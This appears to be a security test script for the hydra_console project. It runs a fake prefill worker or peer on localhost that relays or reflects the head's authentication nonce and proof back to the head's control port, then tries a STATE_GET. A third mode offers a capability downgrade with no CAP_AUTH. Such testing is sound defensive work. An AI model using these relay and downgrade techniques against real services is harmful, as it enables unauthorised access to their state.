"""A worker impostor without the token, as a real process: it listens where a head dials its
prefill worker or a peer and tries to get in with the head's own help. What it manages is
written, one JSON object per event, to the file named by --record.

Modes:
- `relay-prefill`: a fake prefill worker. The head's first AUTH frame (its client nonce) is
  handed, as the fake's own, to the head's control port; whatever that answers is relayed back to
  the head, and any proof the head then sends is relayed to the control port, then STATE_GET and
  CONFIGURE are tried there. Covers both the issue's relay (the head proving itself to itself
  through the fake) and the reflection (the head's nonce handed back to it).
- `own-nonce-prefill`: the same, but the fake asks the head's control port with a nonce of its
  own and relays that (valid, but foreign) proof to the head.
- `downgrade-peer`: a fake peer whose HELLO offers no CAP_AUTH; it records every command the head
  sends after HELLO (a head holding a token must send none).
"""

from __future__ import annotations

import argparse
import json
import os
import socket
import threading

from hydra_console.contracts.rpc import CAP_FORWARD, COMPUTE_SIZE, Cmd, Op, Status
from hydra_console.engine.rpc import wire
from hydra_console.engine.rpc.compute import pack_hello
from hydra_console.engine.rpc.wire import SocketReader


class Record:
    def __init__(self, path: str):
        self.path, self.lock = path, threading.Lock()

    def __call__(self, **event) -> None:
        with self.lock, open(self.path, "a") as f:
            f.write(json.dumps(event) + "\n")


def read_control(reader: SocketReader) -> tuple[int, bytes]:
    h = wire.read_control_header(reader)
    req = wire.read_control_body(reader, h)
    return req.op, bytes(reader.read_exact(req.payload_len))


def ask(sock: socket.socket, op: int, payload: bytes = b"", key: bytes = b""):
    sock.sendall(wire.pack_control_request(op, payload, key=key))
    return wire.read_control_response(SocketReader(sock), 1 << 20)


def answer(conn: socket.socket, status: int, meta: dict) -> None:
    conn.sendall(wire.pack_control_response(status, meta))


def relay_prefill(conn: socket.socket, head_control: tuple[str, int], own_nonce: bool, record: Record) -> None:
    reader = SocketReader(conn)
    op, nonce = read_control(reader)
    record(event="head_first_frame", op=op, nbytes=len(nonce))
    with socket.create_connection(head_control, timeout=10) as victim:
        try:
            challenge = ask(victim, Op.AUTH, os.urandom(16) if own_nonce else nonce)
        except (wire.FrameError, OSError) as e:
            record(event="victim_challenge", status=None, error=str(e))
            return
        record(event="victim_challenge", status=challenge.status, meta=challenge.meta)
        answer(conn, challenge.status, challenge.meta)  # the head's own answer, as ours
        try:
            op, proof = read_control(reader)
        except (wire.FrameError, OSError) as e:
            record(event="head_sent_no_proof", error=str(e))
            return
        record(event="head_second_frame", op=op, nbytes=len(proof))
        if op != Op.AUTH:
            record(event="head_sent_request", op=op, payload=proof.decode("utf-8", "replace")[:200])
            return
        try:
            result = ask(victim, Op.AUTH, proof)
            record(event="victim_login", status=result.status, meta=result.meta)
            stolen = ask(victim, Op.STATE_GET, key=b"0")
            record(event="victim_state_get", status=stolen.status, nbytes=len(stolen.payload))
        except (wire.FrameError, OSError) as e:
            record(event="victim_closed", error=str(e))
        answer(conn, Status.OK, {"auth": True, "ok": True})
        try:
            op, payload = read_control(reader)
            record(event="head_sent_request", op=op, payload=payload.decode("utf-8", "replace")[:200])
        except (wire.FrameError, OSError) as e:
            record(event="head_sent_no_request", error=str(e))


def downgrade_peer(conn: socket.socket, record: Record) -> None:
    reader = SocketReader(conn)
    while True:
        try:
            cmd, size = wire.read_compute_header(reader, 1 << 20)
            payload = bytes(reader.read_exact(size))
        except (wire.FrameError, OSError):
            return
        record(event="command", cmd=cmd, nbytes=len(payload))
        if cmd == Cmd.HELLO:
            hello = pack_hello(CAP_FORWARD)  # no CAP_AUTH: "this worker needs no token"
            conn.sendall(COMPUTE_SIZE.pack(len(hello)) + hello)
        else:
            conn.sendall(COMPUTE_SIZE.pack(3) + b"\x00{}")


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["relay-prefill", "own-nonce-prefill", "downgrade-peer"])
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--head-rpc", type=int, help="the victim head's RPC port (relay modes)")
    ap.add_argument("--record", required=True)
    args = ap.parse_args()
    record = Record(args.record)
    lsock = socket.create_server(("127.0.0.1", args.port))
    record(event="listening")

    def serve(conn):
        with conn:
            conn.settimeout(30)
            if args.mode == "downgrade-peer":
                downgrade_peer(conn, record)
            else:
                relay_prefill(conn, ("127.0.0.1", args.head_rpc), args.mode == "own-nonce-prefill", record)

    while True:
        conn, _ = lsock.accept()
        threading.Thread(target=serve, args=(conn,), daemon=True).start()


if __name__ == "__main__":
    main()
